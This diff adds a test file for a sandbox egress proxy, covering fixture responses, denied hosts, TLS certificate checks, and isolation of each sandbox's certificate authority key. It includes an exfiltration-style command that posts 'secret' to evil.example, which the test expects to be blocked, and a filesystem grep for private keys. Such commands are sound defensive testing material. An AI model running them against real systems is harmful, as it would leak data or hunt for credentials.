@@ -1,0 +1,181 @@
+import { once } from 'node:events';
+import { createServer } from 'node:https';
+import type { SecureContext } from 'node:tls';
+import { expect, onTestFinished, test, vi } from 'vitest';
+import type { EgressEvent, EgressPolicy } from '../../../../src/contracts/egress.ts';
+import { type Outside, reachAny } from '../../../../src/sandbox/network/egress/reach.ts';
+import { CertificateAuthority } from '../../../../src/sandbox/network/tls/certificate-authority.ts';
+import { stateFolder } from '../../docker-fixture.ts';
+import { egressWatch } from './watch-egress.ts';
+
+const watch = egressWatch(stateFolder());
+
+const FIXTURES: EgressPolicy = {
+  kind: 'fixtures',
+  fixtures: [{ url: '^https://api\\.example/', status: 200, headers: {}, body: 'answer' }],
+};
+const ALLOWED = {
+  kind: 'allow',
+  hosts: ['allowed.example', 'allowed.example:993'],
+  unopened: [],
+} satisfies EgressPolicy;
+
+const WITHOUT_PROXY =
+  'env -u http_proxy -u https_proxy -u all_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY';
+
+/** A server with that certificate, in the place of all public hosts. It trusts nobody in particular. */
+async function publicHost(context: SecureContext, authority: CertificateAuthority) {
+  const seen: string[] = [];
+  const server = createServer(
+    { SNICallback: (_name, done) => done(null, context) },
+    async (incoming, outgoing) => {
+      const body = Buffer.concat(await incoming.toArray());
+      seen.push(`${incoming.method} ${incoming.headers.host} ${incoming.url} ${body}`);
+      outgoing.writeHead(207, { 'x-from': 'outside' }).end('from outside');
+    },
+  );
+  onTestFinished(() => void server.close());
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const address = server.address();
+  const port = typeof address === 'object' && address !== null ? address.port : 0;
+  const outside: Outside = {
+    reach: () => reachAny({ host: '127.0.0.1', port }),
+    authorities: () => [authority.pem],
+  };
+  return { seen, outside };
+}
+
+/** What is left besides questions for names. */
+function attempts(events: readonly EgressEvent[]): EgressEvent[] {
+  return events.filter(({ kind }) => kind !== 'dns');
+}
+
+test.each([
+  ['curl', 'curl --silent --show-error https://api.example/p'],
+  ['curl, given a body', 'head -c 3M /dev/urandom | curl -sS https://api.example/p --data-binary @-'],
+  [
+    'urllib',
+    `python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example/p").read().decode())'`,
+  ],
+  ['fetch', `node -e 'fetch("https://api.example/p").then((r) => r.text()).then(console.log)'`],
+  [
+    'https',
+    `node -e 'require("https").get("https://api.example/p", (r) => r.on("data", (d) => console.log(String(d))))'`,
+  ],
+])('a fixture answers %s, through the proxy and without it', async (_client, command) => {
+  const script = `${command}; ${command.replace(/^|(?<=\| )/, `${WITHOUT_PROXY} `)}`;
+  const { said, events, sent } = await watch(FIXTURES, script);
+  expect(said.replaceAll('\n', '')).toBe('answeranswer');
+  const asked = { kind: 'http', scheme: 'https', host: 'api.example', port: 443, path: '/p' };
+  expect(attempts(events)).toMatchObject([1, 2].map(() => ({ ...asked, decision: 'fixture' })));
+  expect(sent.flatMap(({ lacks }) => lacks ?? [])).toEqual([]);
+  expect(sent.filter(({ form }) => form === 'stream')).toEqual([]);
+});
+
+test('programs trust the authority without any variable too', async () => {
+  const { said, events } = await watch(
+    FIXTURES,
+    `env -i python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example/").read())'
+    env -i curl -sS https://api.example/; env -i git ls-remote https://api.example/r`,
+  );
+  expect(said).toContain("b'answer'\nanswer");
+  expect(attempts(events)).toContainEqual(
+    expect.objectContaining({ path: '/r/info/refs?service=git-upload-pack', decision: 'fixture' }),
+  );
+});
+
+test('a request that no fixture matches is denied and recorded in full', async () => {
+  const { said, events } = await watch(FIXTURES, 'curl -sS https://evil.example/steal?x --data secret');
+  expect(said).toBe('evil.example cannot be reached from here.');
+  expect(attempts(events)).toMatchObject([
+    {
+      ...{ kind: 'http', scheme: 'https', host: 'evil.example', decision: 'denied' },
+      ...{ method: 'POST', path: '/steal?x', body: { text: 'secret' } },
+    },
+  ]);
+});
+
+test('a client that only speaks HTTP/2, or another protocol, is refused at once', async () => {
+  const { said, events } = await watch(
+    FIXTURES,
+    `node -e 'const s = require("http2").connect("https://api.example"); s.on("error", (e) => console.log(e.code))'
+    curl -sS --max-time 8 --http2-prior-knowledge --noproxy '*' http://api.example/ || echo "curl $?"
+    node -e 'const s = new WebSocket("wss://api.example/w"); s.onerror = () => console.log("no socket")'
+    printf 'hello' | openssl s_client -quiet -connect api.example:443 2>/dev/null; echo end`,
+  );
+  expect(said).toMatch(/NO_APPLICATION_PROTOCOL.*curl (?!28)\d+.*no socket.*end/s);
+  expect(attempts(events).map(({ kind }) => kind)).toContain('tls');
+});
+
+test('an allowed host is reached with its own certificate checked, and what is asked is recorded', async () => {
+  const authority = new CertificateAuthority();
+  const { seen, outside } = await publicHost(authority.contextFor('allowed.example'), authority);
+  const { said, events } = await watch(
+    ALLOWED,
+    `curl -sS --include https://allowed.example/a?b --data up --header 'Host: other.example'; echo
+    ${WITHOUT_PROXY} curl -sS https://allowed.example/direct; echo
+    curl -sS --proxytunnel https://other.example/ 2>&1`,
+    outside,
+  );
+  expect(said).toMatch(/HTTP\/1.1 207.*x-from: outside.*from outside\nfrom outside\n.*403$/s);
+  expect(seen).toEqual(['POST allowed.example /a?b up', 'GET allowed.example /direct ']);
+  expect(attempts(events)).toMatchObject([
+    { kind: 'http', scheme: 'https', host: 'allowed.example', decision: 'forwarded', body: { text: 'up' } },
+    { kind: 'http', scheme: 'https', host: 'allowed.example', decision: 'forwarded', path: '/direct' },
+    { kind: 'connect', host: 'other.example', decision: 'denied' },
+  ]);
+});
+
+test.each<[string, (authority: CertificateAuthority) => [SecureContext, CertificateAuthority], string]>([
+  [
+    'of an unknown authority',
+    (authority) => [authority.contextFor('allowed.example'), new CertificateAuthority()],
+    'UNABLE_TO_VERIFY_LEAF_SIGNATURE',
+  ],
+  [
+    'of another host',
+    (authority) => [authority.contextFor('other.example'), authority],
+    'ERR_TLS_CERT_ALTNAME_INVALID',
+  ],
+  ['that has expired', (authority) => [expired(authority), authority], 'CERT_HAS_EXPIRED'],
+])('a real certificate %s is refused, and nothing is sent', async (_what, made, code) => {
+  const { seen, outside } = await publicHost(...made(new CertificateAuthority()));
+  const { said } = await watch(ALLOWED, 'curl -sS https://allowed.example/ --data secret', outside);
+  expect(said).toBe(`allowed.example cannot be trusted: the TLS connection failed with ${code}.`);
+  expect(seen).toEqual([]);
+});
+
+function expired(authority: CertificateAuthority): SecureContext {
+  vi.useFakeTimers({ toFake: ['Date'], now: Date.now() - 365 * 24 * 60 * 60 * 1000 });
+  onTestFinished(() => void vi.useRealTimers());
+  const context = authority.contextFor('allowed.example');
+  vi.useRealTimers();
+  return context;
+}
+
+test('a host that is not opened shows its own certificate, and only its name is seen', async () => {
+  const authority = new CertificateAuthority();
+  const { seen, outside } = await publicHost(authority.contextFor('allowed.example'), authority);
+  const ask = `${WITHOUT_PROXY} curl -sS --insecure`;
+  const { said, events } = await watch(
+    { ...ALLOWED, unopened: ['allowed.example'] },
+    `curl -sS https://allowed.example/trusted 2>&1; ${ask} https://allowed.example/direct; curl -sS --insecure https://allowed.example/`,
+    outside,
+  );
+  expect(said).toMatch(/certificate.*from outsidefrom outside$/s);
+  expect(seen).toEqual(['GET allowed.example /direct ', 'GET allowed.example / ']);
+  expect(attempts(events)).toMatchObject([
+    { kind: 'connect', host: 'allowed.example', decision: 'forwarded' },
+    { kind: 'tls', host: 'allowed.example', decision: 'forwarded' },
+    { kind: 'connect', host: 'allowed.example', decision: 'forwarded' },
+  ]);
+});
+
+test('each sandbox has an authority of its own, whose key is nowhere in it', async () => {
+  const show = `sha256sum </run/assay/authority.pem
+  grep --recursive --files-with-matches 'PRIVATE KEY-----' / --include='*' --exclude-dir=proc --exclude-dir=sys --exclude-dir=node_modules --exclude-dir=usr 2>/dev/null; true`;
+  const [one, other] = [await watch(FIXTURES, show), await watch(FIXTURES, show)];
+  expect(one.said).toMatch(/^[0-9a-f]{64} {2}-$/);
+  expect(one.said).not.toBe(other.said);
+});
